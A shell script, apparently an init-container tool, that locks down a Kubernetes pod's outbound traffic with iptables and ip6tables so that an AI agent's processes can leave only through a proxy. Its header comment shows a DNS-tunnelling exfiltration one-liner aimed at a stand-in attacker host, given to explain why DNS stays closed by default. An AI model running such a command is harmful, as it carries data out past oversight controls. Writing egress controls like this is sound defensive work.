#!/bin/sh
# mesa-egress lock-down: makes the proxy the only way out of a pod's network namespace.
#
# Run once, as root with CAP_NET_ADMIN, in the pod's network namespace (a Kubernetes init
# container that runs before the agent). It installs, for IPv4 (iptables) and IPv6 (ip6tables),
# a chain MESA_EGRESS jumped to from the top of OUTPUT:
#
#   loopback (lo, which also carries traffic to the pod's own addresses)   ACCEPT
#   packets of established or related connections                           ACCEPT
#   packets of sockets owned by the proxy's UID (-m owner --uid-owner)      ACCEPT
#   IPv6 neighbour discovery (router/neighbour solicitation, advertisement)  ACCEPT
#   DNS (udp and tcp 53) to the resolver address(es) given, only when asked ACCEPT
#   everything else                                    REJECT (tcp: reset; other: port unreachable)
#
# DNS: by default only the proxy's UID reaches a resolver (it resolves what it dials; the agent's
# clients send host names to the proxy and need no lookups of their own). A resolver that any UID
# may query recurses for any name, so an agent's `dig $(base32 < data).attacker.example` would carry
# data out past every rule. --dns ADDR (or --dns resolv: the nameserver lines of resolv.conf) opens
# it for the few tools that must resolve, knowing that.
#
# With --lock-uid (P1: the agent shares the workbench's pod with the user's own processes)
# only the listed UIDs are refused; other UIDs' packets leave the chain unjudged (RETURN).
#
# Idempotent: the chain is replaced whole in one iptables-restore transaction, and the jump is
# added only when missing, so running it again (a restarted init container) leaves one chain,
# one jump, and no moment without rules.
#
# Usage: lockdown.sh [--proxy-uid UID] [--dns ADDR|resolv|none]... [--lock-uid UID]... [--backend B] [--dry-run]
#   --proxy-uid UID  the proxy's UID (env MESA_EGRESS_PROXY_UID; default 65532)
#   --dns ADDR       opt-in: a resolver address every UID's DNS may go to; repeat for several;
#                    "resolv" for the nameserver lines of /etc/resolv.conf (in a pod, the cluster
#                    resolver); "none" (env MESA_EGRESS_DNS, space-separated; default: none, only
#                    the proxy's UID resolves)
#   --lock-uid UID   refuse only this UID (repeatable; env MESA_EGRESS_LOCK_UIDS, space-separated);
#                    default: refuse every UID but the proxy's
#   --backend B      auto | nft | legacy (env MESA_EGRESS_IPTABLES; default auto: nft when the
#                    kernel takes it, else legacy)
#   --dry-run        print the rules instead of installing them
# Exit: 0 installed, 2 bad arguments, 1 the rules could not be installed (the pod must not start).
set -eu

chain=MESA_EGRESS
proxy_uid=${MESA_EGRESS_PROXY_UID:-65532}
dns=${MESA_EGRESS_DNS:-}
lock_uids=${MESA_EGRESS_LOCK_UIDS:-}
backend=${MESA_EGRESS_IPTABLES:-auto}
resolv_conf=${MESA_EGRESS_RESOLV_CONF:-/etc/resolv.conf}
dry_run=false
dns_from_args=false
lock_from_args=false

say() { printf 'mesa-egress lockdown: %s\n' "$*" >&2; }
usage_error() { say "$*"; say "usage: lockdown.sh [--proxy-uid UID] [--dns ADDR|resolv|none]... [--lock-uid UID]... [--backend auto|nft|legacy] [--dry-run]"; exit 2; }

while [ $# -gt 0 ]; do
  case $1 in
    --proxy-uid) [ $# -ge 2 ] || usage_error "$1 needs a value"; proxy_uid=$2; shift 2 ;;
    --dns)
      [ $# -ge 2 ] || usage_error "$1 needs a value"
      if [ "$dns_from_args" = false ]; then dns=""; dns_from_args=true; fi
      dns="$dns $2"; shift 2 ;;
    --lock-uid)
      [ $# -ge 2 ] || usage_error "$1 needs a value"
      if [ "$lock_from_args" = false ]; then lock_uids=""; lock_from_args=true; fi
      lock_uids="$lock_uids $2"; shift 2 ;;
    --backend) [ $# -ge 2 ] || usage_error "$1 needs a value"; backend=$2; shift 2 ;;
    --dry-run) dry_run=true; shift ;;
    -h|--help) sed -n '2,/^set -eu/p' "$0" | sed 's/^# \{0,1\}//; /^set -eu/d'; exit 0 ;;
    *) usage_error "unknown argument: $1" ;;
  esac
done

is_uid() { case $1 in ''|*[!0-9]*) return 1 ;; *) [ ${#1} -le 10 ] ;; esac; }
is_ipv4() { case $1 in *[!0-9.]*|'') return 1 ;; esac
  # four dotted numbers 0..255
  old_ifs=$IFS; IFS=.; set -- $1; IFS=$old_ifs
  [ $# -eq 4 ] || return 1
  for octet in "$@"; do
    case $octet in ''|*[!0-9]*) return 1 ;; esac
    [ ${#octet} -le 3 ] && [ "$octet" -le 255 ] || return 1
  done
}
is_ipv6() { case $1 in *:*) ;; *) return 1 ;; esac
  case $1 in *[!0-9A-Fa-f:.]*) return 1 ;; esac
}

is_uid "$proxy_uid" || usage_error "--proxy-uid must be a numeric UID, got '$proxy_uid'"
[ "$proxy_uid" -ne 0 ] || usage_error "--proxy-uid 0 would let every root process out; run the proxy as a non-root UID"
for uid in $lock_uids; do
  is_uid "$uid" || usage_error "--lock-uid must be a numeric UID, got '$uid'"
  [ "$uid" != "$proxy_uid" ] || usage_error "--lock-uid $uid is the proxy's own UID"
done

case " $dns " in
  *" resolv "*)
    # A pod's resolv.conf names the cluster resolver (dnsPolicy ClusterFirst).
    named=""
    if [ -r "$resolv_conf" ]; then
      named=$(sed -n 's/^[[:space:]]*nameserver[[:space:]]\{1,\}\([^[:space:]]*\).*/\1/p' "$resolv_conf" | tr '\n' ' ')
    fi
    [ -n "$(printf '%s' "$named" | tr -d ' ')" ] || usage_error "--dns resolv: $resolv_conf names no nameserver; give --dns ADDR"
    dns="$dns $named" ;;
esac
dns4=""
dns6=""
for addr in $dns; do
  case $addr in
    none|resolv) continue ;;
    */*) usage_error "--dns takes single addresses, not networks: '$addr'" ;;
  esac
  addr=${addr%%%*} # a zone index (fe80::1%eth0) cannot be matched
  if is_ipv4 "$addr"; then dns4="$dns4 $addr"
  elif is_ipv6 "$addr"; then dns6="$dns6 $addr"
  else usage_error "--dns: '$addr' is not an IPv4 or IPv6 address"
  fi
done

# rules FAMILY RESOLVERS: the iptables-restore input that (re)defines the chain.
rules() {
  family=$1
  resolvers=$2
  if [ "$family" = 4 ]; then unreachable=icmp-port-unreachable; prefix=32; else unreachable=icmp6-port-unreachable; prefix=128; fi
  echo "*filter"
  echo ":$chain - [0:0]"
  echo "-F $chain"
  echo "-A $chain -o lo -j ACCEPT"
  echo "-A $chain -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT"
  echo "-A $chain -m owner --uid-owner $proxy_uid -j ACCEPT"
  if [ "$family" = 6 ]; then
    # IPv6 finds its neighbours (the gateway included) with ICMPv6 the kernel sends itself,
    # owned by no UID; without these the proxy's own IPv6 traffic stalls once the neighbour
    # cache expires. Hop limit 255 is what NDP must carry (RFC 4861); no other ICMPv6 type
    # is let out, and an agent without CAP_NET_RAW cannot craft these.
    for type in router-solicitation neighbour-solicitation neighbour-advertisement; do
      echo "-A $chain -p ipv6-icmp -m icmp6 --icmpv6-type $type -m hl --hl-eq 255 -j ACCEPT"
    done
  fi
  for r in $resolvers; do
    echo "-A $chain -d $r/$prefix -p udp -m udp --dport 53 -j ACCEPT"
    echo "-A $chain -d $r/$prefix -p tcp -m tcp --dport 53 -j ACCEPT"
  done
  if [ -n "$lock_uids" ]; then
    for uid in $lock_uids; do
      echo "-A $chain -p tcp -m owner --uid-owner $uid -j REJECT --reject-with tcp-reset"
      echo "-A $chain -m owner --uid-owner $uid -j REJECT --reject-with $unreachable"
    done
    echo "-A $chain -j RETURN"
  else
    echo "-A $chain -p tcp -j REJECT --reject-with tcp-reset"
    echo "-A $chain -j REJECT --reject-with $unreachable"
  fi
  echo "COMMIT"
}

if [ "$dry_run" = true ]; then
  echo "# IPv4 (iptables-restore --noflush), then: iptables -I OUTPUT 1 -j $chain unless present"
  rules 4 "$dns4"
  echo "# IPv6 (ip6tables-restore --noflush), then: ip6tables -I OUTPUT 1 -j $chain unless present"
  rules 6 "$dns6"
  exit 0
fi

[ "$(id -u)" = 0 ] || { say "must run as root with CAP_NET_ADMIN (it runs as UID $(id -u))"; exit 1; }

# works CMD: the command exists and can read the filter table (kernel support, capability).
works() { command -v "$1" >/dev/null 2>&1 && "$1" -w -L OUTPUT -n >/dev/null 2>&1; }
case $backend in
  auto)
    if works iptables-nft; then v4=iptables-nft; v6=ip6tables-nft
    elif works iptables-legacy; then v4=iptables-legacy; v6=ip6tables-legacy
    elif works iptables; then v4=iptables; v6=ip6tables
    else say "no working iptables (tried iptables-nft, iptables-legacy, iptables): is CAP_NET_ADMIN granted?"; exit 1
    fi ;;
  nft|legacy) v4=iptables-$backend; v6=ip6tables-$backend
    works "$v4" || { say "$v4 does not work here (missing, no kernel support, or no CAP_NET_ADMIN)"; exit 1; } ;;
  *) usage_error "--backend must be auto, nft or legacy, got '$backend'" ;;
esac

# install CMD FAMILY RESOLVERS
install() {
  cmd=$1
  rules "$2" "$3" | "$cmd-restore" -w --noflush || { say "$cmd-restore refused the rules"; exit 1; }
  if ! "$cmd" -w -C OUTPUT -j "$chain" >/dev/null 2>&1; then
    "$cmd" -w -I OUTPUT 1 -j "$chain" || { say "$cmd could not add the jump to $chain"; exit 1; }
  fi
}

install "$v4" 4 "$dns4"
if [ -e /proc/net/if_inet6 ]; then
  install "$v6" 6 "$dns6"
else
  # No IPv6 in this kernel or namespace: there is no IPv6 egress to lock.
  say "IPv6 is not available here; only IPv4 rules installed"
fi

if [ -n "$lock_uids" ]; then who="UIDs$lock_uids"; else who="every UID but $proxy_uid"; fi
if [ -n "$dns4$dns6" ]; then dns_said="DNS open to every UID toward:${dns4}${dns6}"; else dns_said="DNS for the proxy's UID only"; fi
say "installed with $v4/$v6: egress refused for $who; proxy UID $proxy_uid allowed; $dns_said"
